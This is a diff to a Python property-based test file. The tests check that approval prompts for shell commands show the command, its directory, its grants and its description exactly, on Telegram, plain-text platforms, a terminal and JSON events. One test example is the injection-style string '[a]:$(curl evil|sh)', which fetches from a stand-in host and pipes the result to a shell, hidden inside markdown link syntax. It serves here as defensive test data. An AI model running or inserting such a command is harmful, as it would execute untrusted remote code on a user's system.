@@ -1,5 +1,5 @@
-"""Approvals show exactly what they allow: for any command and in every dialect, the shown text has each of
-its characters."""
+"""Approvals show exactly what they allow: for any command, directory and grants, and in every dialect, the
+shown text has each of their characters. The page has a test of its own in `tests/browser`."""
 
 from __future__ import annotations
 
@@ -9,6 +9,7 @@ from collections.abc import Sequence
 from contextlib import nullcontext, suppress
 from dataclasses import replace
 
+import msgspec
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
@@ -16,6 +17,7 @@ from hypothesis import strategies as st
 from hermes_platforms.telegram.formatting import to_markdown_v2
 from hermes_platforms.telegram.telegram_link import TRAITS as TELEGRAM
 from hermes_platforms.telegram.testing.bot_api_entities import parse_markdown_v2, utf16_length
+from hermes_trio.base.events import ApprovalRequest
 from hermes_trio.cli.console import Console, PipedQuestion
 from hermes_trio.gateway.outbound.exact_text import (
     LONGEST,
@@ -27,6 +29,7 @@ from hermes_trio.gateway.outbound.exact_text import (
     with_end,
 )
 from hermes_trio.gateway.outbound.rows import Part
+from hermes_trio.gateway.turn.open_question import OpenQuestion, request_event
 from hermes_trio.platform.contract import Outgoing, Traits
 from hermes_trio.tools.tool import Approval, NotShown
 
@@ -55,6 +58,7 @@ TEXTS = st.one_of(
     st.text(st.sampled_from("ab`*_[]()~>#+-=|{}.!\\ \n\t<&/:$\u202e\u200d\u0301⟨⟩│é😀"), max_size=120),
     st.lists(st.sampled_from((*NASTY, " ", "\n", "`", "word ")), max_size=12).map("".join),
 )
+GRANTS = st.lists(TEXTS.filter(bool).map("write {}".format), max_size=4).map(tuple)
 LONG = st.builds(lambda text, times: (text or "x") * times, TEXTS, st.integers(1, 400))
 COUNTINGS = ("characters", "utf-16", "bytes")
 PROPERTY = settings(max_examples=150, deadline=None, database=None)
@@ -106,43 +110,52 @@ def test_texts_that_look_the_same_are_shown_differently(text: str, shown: str | 
 
 
 @PROPERTY
-@given(st.one_of(TEXTS, LONG), TEXTS, TEXTS)
-@example("[a]:$(curl evil|sh)", "/srv", "This deletes.")
-@example("x" * 1500 + "`;`" + "y" * 9000, "/srv", "")
-@example("a " * 6000, "/srv", "")
-def test_telegram_shows_the_command_and_its_directory_exactly(command: str, cwd: str, why: str) -> None:
-    shows_exactly(command, cwd, why, TELEGRAM)
+@given(st.one_of(TEXTS, LONG), st.one_of(TEXTS, LONG), GRANTS, TEXTS)
+@example("[a]:$(curl evil|sh)", "/srv", ("network",), "This deletes.")
+@example("x" * 1500 + "`;`" + "y" * 9000, "/srv", (), "")
+@example("a " * 6000, "/srv", (), "")
+@example("make", "/srv", tuple(f"write /srv/{'long' * 150}/{number}" for number in range(4)), "w" * 900)
+def test_telegram_shows_the_command_its_directory_and_its_grants_exactly(
+    command: str, cwd: str, grants: tuple[str, ...], why: str
+) -> None:
+    shows_exactly(Approval(command, why, cwd, grants=grants), TELEGRAM)
 
 
 @PROPERTY
 @given(
-    st.one_of(TEXTS, LONG), TEXTS, st.integers(600, 5000), st.sampled_from(["characters", "utf-16", "bytes"])
+    st.one_of(TEXTS, LONG),
+    TEXTS,
+    GRANTS,
+    st.integers(600, 5000),
+    st.sampled_from(["characters", "utf-16", "bytes"]),
 )
-def test_a_platform_without_markup_shows_the_command_and_its_directory_exactly(
-    command: str, cwd: str, limit: int, counting: str
+def test_a_platform_without_markup_shows_the_command_its_directory_and_its_grants_exactly(
+    command: str, cwd: str, grants: tuple[str, ...], limit: int, counting: str
 ) -> None:
-    shows_exactly(command, cwd, "Because.", Traits(limit=limit, counting=counting))  # type: ignore[arg-type]
+    traits = Traits(limit=limit, counting=counting)  # type: ignore[arg-type]
+    shows_exactly(Approval(command, "Because.", cwd, grants=grants), traits)
 
 
-def shows_exactly(command: str, cwd: str, why: str, traits: Traits) -> None:
+def shows_exactly(asked: Approval, traits: Traits) -> None:
     """Check that the messages show each character, or that the question is refused."""
-    shown = visible(command + cwd)
+    shown = visible("\n".join((asked.exact, asked.place, asked.description, *asked.grants)))
     is_short = len(shown.encode()) + len(shown.split("\n")) * 4 < traits.limit // 6
-    with nullcontext() if command and is_short else suppress(NotShown):
-        whole_and_exact(command, cwd, approval_parts(Approval(command, why, cwd), 60, traits), traits)
+    with nullcontext() if asked.exact and is_short else suppress(NotShown):
+        whole_and_exact(asked, approval_parts(asked, 60, traits), traits)
 
 
-def whole_and_exact(command: str, cwd: str, parts: Sequence[Part], traits: Traits) -> None:
-    """Check that the messages show each character of the command and its directory, and nothing more."""
+def whole_and_exact(asked: Approval, parts: Sequence[Part], traits: Traits) -> None:
+    """Check that the messages show each character of what is asked, and nothing more."""
     assert len(parts) <= MOST_PARTS + 1
     shows = telegram_shows if traits.dialect == "markdown" else plain_shows
     *before, last = map(shows, parts)
-    exact = [stretch for one in before for stretch in one]
-    asked = list(last)
-    if cwd:
-        assert original(asked.pop(0)) == cwd
-    exact += asked[:1] if not before else []
-    assert original("".join(exact)) == command
+    left = list(last)
+    assert original(left.pop(0) if asked.place else "") == asked.place
+    exact = [stretch for one in before for stretch in one] or [left.pop(0)]
+    assert original("".join(exact)) == asked.exact
+    grants = left.pop(0).split("\n") if asked.grants else []
+    assert tuple(map(original, grants)) == asked.grants
+    assert list(map(original, left)) == [asked.description] * bool(asked.description)
     for part in parts:
         size = len(part.text.encode()) if traits.counting == "bytes" else utf16_length(part.text)
         assert traits.counting == "characters" or size <= traits.limit
@@ -165,16 +178,37 @@ def test_telegram_shows_each_choice_unchanged(question: str, choices: list[str])
     assert telegram_shows(with_end(parts[-1], choices[0]))[len(code)] == block
 
 
-async def test_the_terminal_shows_the_command_in_lines_of_its_own() -> None:
-    for command in NASTY:
-        screen = io.StringIO()
-        console = Console(lambda: None, lambda: None, lambda: "1", keyboard=PipedQuestion(""), screen=screen)
-        [part] = approval_parts(Approval(command, "Why.", "/srv"), 60, console.traits)
+@PROPERTY
+@given(st.one_of(TEXTS, LONG).filter(bool), GRANTS)
+async def test_the_terminal_shows_the_command_in_lines_of_its_own(
+    command: str, grants: tuple[str, ...]
+) -> None:
+    screen = io.StringIO()
+    console = Console(lambda: None, lambda: None, lambda: "1", keyboard=PipedQuestion(""), screen=screen)
+    asked = Approval(command, "Why.", "/srv", grants=grants)
+    with nullcontext() if len(visible(command)) <= LONGEST else pytest.raises(NotShown):
+        [part] = approval_parts(asked, 60, console.traits)
         async with console.connect() as link:
             await link.send(Outgoing(chat_id="me", text=part.text, key="k", preformatted=part.preformatted))
         lines = [one.removeprefix(QUOTED) for one in screen.getvalue().split("\n") if one.startswith(QUOTED)]
-        assert original("\n".join(lines)) == f"/srv\n{command}"
-        assert "\x1b" not in screen.getvalue()
+        last = len(lines) - len(grants)
+        assert original("\n".join(lines[:last])) == f"/srv\n{command}"
+        assert tuple(map(original, lines[last:])) == grants
+        assert not set(screen.getvalue()) & set("\x1b\r\b\t\0")
+
+
+@PROPERTY
+@given(st.one_of(TEXTS, LONG), TEXTS, GRANTS, TEXTS)
+async def test_the_event_of_an_approval_has_each_character(
+    command: str, cwd: str, grants: tuple[str, ...], why: str
+) -> None:
+    asked = Approval(command, why, cwd, grants=grants)
+    sent = msgspec.json.encode(request_event(OpenQuestion("id", "approval"), asked))
+    event = msgspec.json.decode(sent, type=ApprovalRequest)
+    assert [original(text) for text in (event.command, event.cwd, event.description)] == [command, cwd, why]
+    assert tuple(map(original, event.grants)) == grants
+    assert all(one.isprintable() or one == "\n" for text in (event.command, event.cwd) for one in text)
+    assert all(text.isprintable() for text in (event.description, *event.grants))
 
 
 @pytest.mark.parametrize(
@@ -183,6 +217,7 @@ async def test_the_terminal_shows_the_command_in_lines_of_its_own() -> None:
         ("x" * (LONGEST + 1), Traits(limit=10**9)),
         ("\u202e" * LONGEST, Traits(limit=10**9)),
         ("x" * 3000, Traits(limit=300)),
+        ("x", Traits(limit=100)),
         ("", Traits()),
         ("ls", replace(TELEGRAM, preformatted=False)),
     ],
